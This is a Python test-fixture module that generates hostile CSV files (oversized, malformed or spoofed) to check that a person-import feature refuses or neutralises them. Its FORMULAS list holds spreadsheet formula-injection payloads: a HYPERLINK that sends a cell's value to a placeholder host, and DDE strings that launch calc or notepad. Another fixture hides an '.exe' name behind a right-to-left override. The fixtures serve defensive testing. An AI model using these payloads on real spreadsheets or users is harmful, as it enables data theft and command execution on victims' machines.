"""Hostile csv files: as Excel saves them, and as an attacker builds them."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path

from suivi.interop.tests.hostile.rows import (
    EMPTY_CSV_LINE,
    GOOD_ROWS,
    LIMITS,
    PERSON_HEADERS,
    HostileFile,
    _scaled,
    person_row,
)


def _write_csv(
    path: Path,
    rows: Iterable[Sequence[str]],
    header: Sequence[str] | None = PERSON_HEADERS,
    tail: Iterable[str] = (),
) -> None:
    """As Excel saves "CSV UTF-8 (semicolon)": a BOM, `;`, CRLF; then the
    raw lines of `tail` (each ended by CRLF)."""
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, delimiter=";", lineterminator="\r\n")
        if header is not None:
            writer.writerow(header)
        writer.writerows(rows)
        for line in tail:
            handle.write(line + "\r\n")


def _good(count: int, start: int = 1) -> Iterator[list[str]]:
    return (person_row(number) for number in range(start, start + count))


def make_csv_trailing_separators(folder: Path, scale: float = 1.0) -> HostileFile:
    """50 good rows, then the formatted empty rows Excel writes as `;;;;…`."""
    blank = _scaled(1_000_000, scale)
    path = folder / "csv_trailing_separators.csv"
    _write_csv(path, _good(GOOD_ROWS), tail=(EMPTY_CSV_LINE for _ in range(blank)))
    refused = 1 + GOOD_ROWS + blank > LIMITS["physical_lines"]
    return HostileFile(
        "csv_trailing_separators",
        path,
        "persons",
        "refused" if refused else f"imported {GOOD_ROWS}",
        "skip the empty lines, import the 50 rows, without an issue per empty cell",
        {"blank_lines": blank},
    )


def make_csv_over_excel_lines(folder: Path, scale: float = 1.0) -> HostileFile:
    """More physical lines than a sheet can hold (1,048,576), empty after 50 rows."""
    blank = _scaled(1_100_000, scale)
    path = folder / "csv_over_excel_lines.csv"
    _write_csv(path, _good(GOOD_ROWS), tail=(EMPTY_CSV_LINE for _ in range(blank)))
    refused = 1 + GOOD_ROWS + blank > LIMITS["physical_lines"]
    return HostileFile(
        "csv_over_excel_lines",
        path,
        "persons",
        "refused" if refused else f"imported {GOOD_ROWS}",
        "refuse early: more lines than Excel allows",
        {"blank_lines": blank},
    )


def make_csv_huge_cell(folder: Path, scale: float = 1.0) -> HostileFile:
    """One cell of 200 KiB (Python's csv refuses fields over 128 KiB)."""
    path = folder / "csv_huge_cell.csv"
    size = 200 * 1024
    rows = [*_good(3), person_row(4, city="A" * size), *_good(3, start=5)]
    _write_csv(path, rows)
    refused = size > LIMITS["cell_chars"]
    return HostileFile(
        "csv_huge_cell",
        path,
        "persons",
        "refused" if refused else "imported 7",
        "refuse: a cell longer than Excel's 32,767 characters (no traceback)",
        {"cell_chars": size},
    )


def make_csv_many_columns(folder: Path, scale: float = 1.0) -> HostileFile:
    """A header of 20,000 columns (the template's 13, then `Colonne14`…)."""
    columns = 20_000
    extra = [f"Colonne{n}" for n in range(len(PERSON_HEADERS) + 1, columns + 1)]
    path = folder / "csv_many_columns.csv"
    rows = ([*row, *([""] * len(extra))] for row in _good(GOOD_ROWS))
    _write_csv(path, rows, header=[*PERSON_HEADERS, *extra])
    return HostileFile(
        "csv_many_columns",
        path,
        "persons",
        "refused" if columns > LIMITS["columns"] else f"imported {GOOD_ROWS}",
        "refuse: more columns than any template has",
        {"columns": columns},
    )


def _valid_persons(folder: Path, name: str, full: int, scale: float, why: str) -> HostileFile:
    count = _scaled(full, scale)
    path = folder / f"{name}.csv"
    _write_csv(path, _good(count))
    refused = count > LIMITS["data_rows"]
    return HostileFile(
        name, path, "persons", "refused" if refused else f"imported {count}", why, {"rows": count}
    )


def make_csv_too_many_rows(folder: Path, scale: float = 1.0) -> HostileFile:
    """250,000 valid persons: over the 200,000 rows a file may hold."""
    return _valid_persons(
        folder, "csv_too_many_rows", 250_000, scale, "refuse early: more than 200,000 rows"
    )


def make_csv_100k_persons(folder: Path, scale: float = 1.0) -> HostileFile:
    """100,000 valid persons (the lock-out bench imports it)."""
    return _valid_persons(
        folder,
        "csv_100k_persons",
        100_000,
        scale,
        "import them while other users' pages keep answering",
    )


def _small_csv(
    folder: Path,
    name: str,
    rows: Iterable[Sequence[str]],
    expect: str,
    why: str,
    tail: Iterable[str] = (),
) -> HostileFile:
    path = folder / f"{name}.csv"
    _write_csv(path, rows, tail=tail)
    return HostileFile(name, path, "persons", expect, why)


def make_duplicate_reference_in_file(folder: Path, scale: float = 1.0) -> HostileFile:
    """Two different people under the same partner id in one file."""
    rows = [*_good(3), person_row(2, given_name="Koffi", family_name="Autre-Personne")]
    return _small_csv(
        folder,
        "duplicate_reference_in_file",
        rows,
        "refused",
        "refuse: HB-000002 names two different people (the second was dropped silently)",
    )


def make_date_with_suffix(folder: Path, scale: float = 1.0) -> HostileFile:
    """`2020-12-3155`: the old reader kept its first ten characters."""
    rows = [*_good(2), person_row(3, registered_on="2020-12-3155")]
    return _small_csv(
        folder,
        "date_with_suffix",
        rows,
        "refused",
        "refuse the date (it was stored as 2020-12-31)",
    )


def make_empty_csv(folder: Path, scale: float = 1.0) -> HostileFile:
    path = folder / "empty_csv.csv"
    path.write_bytes(b"")
    return HostileFile("empty_csv", path, "persons", "refused", "refuse: the file is empty")


def make_header_only_csv(folder: Path, scale: float = 1.0) -> HostileFile:
    return _small_csv(
        folder, "header_only_csv", [], "refused", "refuse: no rows (not a success with 0 records)"
    )


def make_blank_rows_only_csv(folder: Path, scale: float = 1.0) -> HostileFile:
    blank = _scaled(1_000, scale)
    return _small_csv(
        folder,
        "blank_rows_only_csv",
        [],
        "refused",
        "refuse: no rows once the empty lines are skipped",
        tail=[EMPTY_CSV_LINE] * blank,
    )


def make_control_characters_names(folder: Path, scale: float = 1.0) -> HostileFile:
    """Names holding a right-to-left override, a bell and a zero-width space."""
    rows = [
        *_good(2),
        person_row(3, given_name="Awa\u202egnp.exe"),
        person_row(4, family_name="Fic\x07tif"),
        person_row(5, given_name="\u200bMariam", city="Rabat\x1b[31m"),
    ]
    return _small_csv(
        folder,
        "control_characters_names",
        rows,
        "refused",
        "refuse the control and invisible characters, row by row",
    )


def make_nationality_garbage(folder: Path, scale: float = 1.0) -> HostileFile:
    rows = [*_good(2), person_row(3, nationality="<>"), person_row(4, nationality="1;")]
    return _small_csv(
        folder,
        "nationality_garbage",
        rows,
        "refused",
        "refuse a nationality that is not two letters",
    )


FORMULAS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A2,"Voir le dossier")',
    "=1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33612345678+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def make_formula_names(folder: Path, scale: float = 1.0) -> HostileFile:
    """Names and a city that a spreadsheet would run as formulas."""
    rows = [*_good(2)]
    for offset, formula in enumerate(FORMULAS):
        number = 3 + offset
        change = "city" if offset == len(FORMULAS) - 1 else "given_name"
        rows.append(person_row(number, **{change: formula}))
    return _small_csv(
        folder,
        "formula_names",
        rows,
        f"imported {len(rows)}",
        "keep them as text (a name may start with '-'), and never write them back as a "
        "live formula: every export quotes them (docs/imports.md)",
    )
